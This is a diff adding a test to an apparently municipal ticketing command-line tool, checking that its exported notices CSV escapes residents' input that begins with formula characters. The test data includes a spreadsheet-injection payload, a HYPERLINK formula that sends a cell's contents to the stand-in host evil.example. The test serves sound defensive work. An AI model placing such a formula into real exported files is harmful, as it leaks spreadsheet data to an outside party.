@@ -177,3 +177,23 @@ def test_a_ticket_printed_as_json_with_phones_is_audited(url, db, capsys):
         "fields": ["reporter.phone", "assignee.phone"],
         "via": "tickets show --json",
     }
+
+
+def test_the_notices_csv_writes_a_residents_formula_as_text(url, capsys, tmp_path):
+    import csv
+
+    reporter = '=HYPERLINK("http://evil.example/?d="&E3,"点击")'
+    code, out, err = run(
+        capsys, "tickets", "new", "--db", url, "--category", "SR01", "--lon", str(IN_G1[0]),
+        "--lat", str(IN_G1[1]), "--text", "@SUM(1+1) 路灯不亮", "--reporter", reporter, "--phone", "13812345678",
+    )  # fmt: skip
+    assert code == 0, err
+    tid = out.strip()
+    for argv in (("start",), ("handle", "--result", "+已修复"), ("verify",), ("close",)):
+        assert run(capsys, "tickets", "act", tid, *argv, "--db", url)[0] == 0
+    notices = tmp_path / "notices.csv"
+    assert run(capsys, "tickets", "notices", str(notices), "--db", url)[0] == 0
+    with notices.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert rows and all(row[1] == "'" + reporter for row in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
